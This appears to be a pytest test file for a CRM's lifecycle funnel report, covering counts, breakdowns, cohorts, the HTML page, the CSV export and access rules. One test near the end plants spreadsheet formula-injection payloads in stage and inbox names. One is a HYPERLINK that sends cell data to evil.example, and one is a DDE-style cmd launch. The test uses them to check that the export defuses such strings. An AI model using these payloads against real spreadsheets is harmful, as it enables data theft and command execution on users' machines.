"""The funnel report against a history small enough to count on paper (the counts are in the comments)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest

from contacts.models import Contact
from conversations.models import Inbox
from lifecycle.models import Stage
from lifecycle.selectors import Period, funnel_report
from lifecycle.services import contact_stage_ensure, stage_move
from tests import factories

DAY = 86400


def at(month: int, day: int) -> datetime:
    return datetime(2026, month, day, 12, 0, tzinfo=UTC)


def person(
    name: str, channel: str, inbox: Inbox | None, first: datetime, *moves: tuple[str, datetime]
) -> Contact:
    contact = factories.ContactFactory(name=name)
    contact_stage_ensure(contact=contact, at=first, channel=channel, inbox=inbox)
    for key, when in moves:
        stage_move(contact=contact, stage=Stage.objects.get(key=key), by=None, at=when)
    return contact


@pytest.fixture
def history(inbox_support: Inbox, inbox_sales: Inbox) -> None:
    support, sales = inbox_support, inbox_sales
    person(
        "A",
        "sms",
        support,
        at(3, 1),
        ("lead", at(3, 1)),
        ("qualified", at(3, 3)),
        ("opportunity", at(3, 5)),
        ("customer", at(3, 10)),
    )
    person(
        "B", "sms", support, at(3, 2), ("lead", at(3, 2)), ("qualified", at(3, 4)), ("customer", at(3, 12))
    )
    person("C", "email", sales, at(3, 2), ("lead", at(3, 2)), ("qualified", at(3, 6)))
    person("D", "email", sales, at(3, 3), ("lead", at(3, 3)), ("lost", at(3, 8)))
    person("E", "sms", sales, at(3, 4), ("lead", at(3, 4)))
    person(
        "F",
        "whatsapp",
        support,
        at(3, 5),
        ("lead", at(3, 5)),
        ("qualified", at(3, 7)),
        ("opportunity", at(3, 9)),
    )
    person("G", "api", None, at(3, 1), ("subscriber", at(3, 1)))
    person("H", "sms", support, at(3, 1), ("subscriber", at(3, 1)), ("lead", at(3, 6)))
    person(
        "I",
        "sms",
        support,
        at(2, 10),
        ("lead", at(2, 10)),
        ("qualified", at(2, 20)),
        ("customer", at(3, 15)),
        ("loyal", at(3, 20)),
    )
    person("J", "sms", support, at(2, 5), ("lead", at(2, 5)), ("qualified", at(2, 15)))
    person(
        "K",
        "sms",
        sales,
        at(3, 10),
        ("lead", at(3, 10)),
        ("qualified", at(3, 11)),
        ("opportunity", at(3, 12)),
        ("customer", at(3, 13)),
        ("loyal", at(3, 25)),
    )
    person("L", "sms", support, at(4, 2), ("lead", at(4, 2)))
    person("M", "sms", support, at(3, 20))  # first contact, no stage yet


MARCH = Period(datetime(2026, 3, 1).date(), datetime(2026, 3, 31).date())
MAIN = ["subscriber", "lead", "qualified", "opportunity", "customer", "loyal"]


def by_key(report) -> dict:
    return {row.stage.key: row for row in report.main + report.side}


def test_the_figures_match_the_paper_count(history: None) -> None:
    report = funnel_report(period=MARCH)
    rows = by_key(report)
    assert [row.stage.key for row in report.main] == MAIN
    # In the stage now: G | E H L | C J | F | A B | I K | D, and M with none.
    now = {key: rows[key].now for key in rows}
    assert now == {"subscriber": 1, "lead": 3, "qualified": 2, "opportunity": 1, "customer": 2, "loyal": 2,
                   "lost": 1, "churned": 0}  # fmt: skip
    assert report.no_stage_now == 1 and report.total_now == 13
    # Moves into each stage during March (I and J's February moves and L's April one are outside).
    entered = {key: rows[key].entered for key in rows}
    assert entered == {"subscriber": 2, "lead": 8, "qualified": 5, "opportunity": 3, "customer": 4, "loyal": 2,
                       "lost": 1, "churned": 0}  # fmt: skip
    # Furthest main-line stage per contact moving in March: A B I K got to customer (I K to loyal), F to opportunity,
    # C to qualified, D E H to lead, G to subscriber: 10 contacts.
    assert [rows[key].reached for key in MAIN] == [10, 9, 6, 5, 4, 2]
    assert [None if rows[key].conversion is None else round(rows[key].conversion, 3) for key in MAIN] == [
        0.9, 0.667, 0.833, 0.8, 0.5, None,
    ]  # fmt: skip
    # Stays begun in March and ended: lead 1 2 2 2 4 5 days, qualified 1 2 2 8, customer 5 12, subscriber 5.
    assert rows["lead"].median_seconds == 2 * DAY
    assert rows["qualified"].median_seconds == 2 * DAY
    assert rows["customer"].median_seconds == 8.5 * DAY
    assert rows["subscriber"].median_seconds == 5 * DAY
    assert rows["loyal"].median_seconds is None  # nobody has left it


def test_drop_off_by_first_channel_and_team(history: None) -> None:
    report = funnel_report(period=MARCH)
    channels = {row.label: row.reached for row in report.breakdowns["first channel"]}
    assert channels == {
        "sms": [6, 6, 4, 4, 4, 2],  # A B E H I K
        "email": [2, 2, 1, 0, 0, 0],  # C D
        "whatsapp": [1, 1, 1, 1, 0, 0],  # F
        "API event": [1, 0, 0, 0, 0, 0],  # G
    }
    teams = {row.label: row.reached for row in report.breakdowns["team"]}
    assert teams == {
        "Support": [5, 5, 4, 4, 3, 1],  # A B F H I
        "Sales": [4, 4, 2, 1, 1, 1],  # C D E K
        "no team": [1, 0, 0, 0, 0, 0],  # G
    }
    inboxes = {row.label for row in report.breakdowns["first inbox"]}
    assert inboxes == {"Support line", "Sales line", "none"}
    assert {row.label: row.reached[0] for row in report.breakdowns["agent"]} == {"unassigned": 10}


def test_cohorts_by_month_of_first_contact(history: None) -> None:
    report = funnel_report(period=MARCH)
    [march] = report.cohorts
    assert march.month.isoformat() == "2026-03-01"
    # A B C D E F G H K M; furthest ever: customer customer qualified lead lead opportunity subscriber lead loyal none.
    assert march.size == 10
    assert march.reached == [9, 8, 5, 4, 3, 1]


def test_trend_has_a_point_per_day(history: None) -> None:
    report = funnel_report(period=MARCH)
    assert report.bucket_size == "day" and len(report.buckets) == 31
    lead = Stage.objects.get(key="lead").pk
    assert sum(report.trend[lead]) == 8
    assert report.trend[lead][1] == 2  # B and C on March 2


def test_the_page_shows_the_chart_and_the_numbers(history: None, manager_maria, client) -> None:
    client.force_login(manager_maria)
    response = client.get("/reports/funnel/?start=2026-03-01&end=2026-03-31")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<svg" in html and "funnel-chart" in html and "trend-chart" in html
    reached = re.findall(r'data-col="reached">(\d+)<', html)
    assert reached == ["10", "9", "6", "5", "4", "2"]
    assert 'data-col="conversion">67%<' in html
    assert 'data-col="median">48 h 00 min<' in html or 'data-col="median">2 days<' in html


def test_csv_download(history: None, manager_maria, client) -> None:
    client.force_login(manager_maria)
    response = client.get("/reports/funnel/export.csv?start=2026-03-01&end=2026-03-31")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "funnel-2026-03-01-2026-03-31.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    lead = next(row for row in rows if row[:2] == ["stage", "Lead"])
    assert lead[2:6] == ["3", "8", "9", "0.6667"]
    assert lead[6] == str(2 * DAY)
    assert ["by first channel", "email", "2", "2", "1", "0", "0", "0"] in rows
    assert ["cohort", "2026-03", "10", "9", "8", "5", "4", "3", "1"] in rows


# --- bad input -------------------------------------------------------------------------------------
def test_a_period_that_ends_before_it_starts_is_refused(manager_maria, client) -> None:
    client.force_login(manager_maria)
    response = client.get("/reports/funnel/?start=2026-03-31&end=2026-03-01")
    assert response.status_code == 400
    assert "ends (2026-03-01) before it starts (2026-03-31)" in response.content.decode()
    assert client.get("/reports/funnel/export.csv?start=2026-03-31&end=2026-03-01").status_code == 400
    api = client.get("/api/v1/reports/funnel/?start=2026-03-31&end=2026-03-01")
    assert api.status_code == 400 and "before it starts" in api.json()["detail"]
    assert client.get("/reports/funnel/?start=yesterday").status_code == 400


def test_a_report_over_an_empty_database_shows_zeros(manager_maria, client) -> None:
    client.force_login(manager_maria)
    response = client.get("/reports/funnel/")
    assert response.status_code == 200
    html = response.content.decode()
    assert re.findall(r'data-col="reached">(\d+)<', html) == ["0"] * 6
    assert '<td class="num" id="funnel-total">0</td>' in html
    api = client.get("/api/v1/reports/funnel/").json()
    assert [stage["now"] for stage in api["stages"]] == [0] * 8
    assert client.get("/reports/funnel/export.csv").status_code == 200


def test_an_agent_gets_403(alice_client) -> None:
    assert alice_client.get("/reports/funnel/").status_code == 403
    assert alice_client.get("/reports/funnel/export.csv").status_code == 403
    assert alice_client.get("/api/v1/reports/funnel/").status_code == 403
    assert b'href="/reports/funnel/"' not in alice_client.get("/inbox/").content


def test_managers_find_reports_in_the_top_bar(manager_maria, client) -> None:
    client.force_login(manager_maria)
    assert b'<a href="/reports/">Reports</a>' in client.get("/inbox/").content
    assert b'href="/reports/funnel/"' in client.get("/reports/").content


def test_csv_download_defuses_names_a_spreadsheet_would_run(
    history: None, manager_maria, client, inbox_support: Inbox
) -> None:
    Stage.objects.filter(key="lead").update(name='=HYPERLINK("https://evil.example/?"&A1,"Lead")')
    inbox_support.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    inbox_support.save(update_fields=["name"])
    client.force_login(manager_maria)
    response = client.get("/reports/funnel/export.csv?start=2026-03-01&end=2026-03-31")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Lead")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+", "\t", "\r")]
    assert "-" not in {cell[:1] for cell in cells if not cell.lstrip("-").replace(".", "").isdigit()}


def test_a_stage_too_narrow_for_its_label_is_labelled_beside_its_bar_in_dark_text() -> None:
    from lifecycle.charts import funnel_svg

    svg = str(funnel_svg([("Lead", 40), ("Qualified", 0)]))
    lead, qualified = re.findall(r"<text [^>]*>[^<]*</text>", svg)
    assert 'class="funnel-label"' in lead and "Lead · 40" in lead  # white, on its wide bar
    assert "funnel-label-outside" in qualified and "Qualified · 0" in qualified  # dark, beside the bar
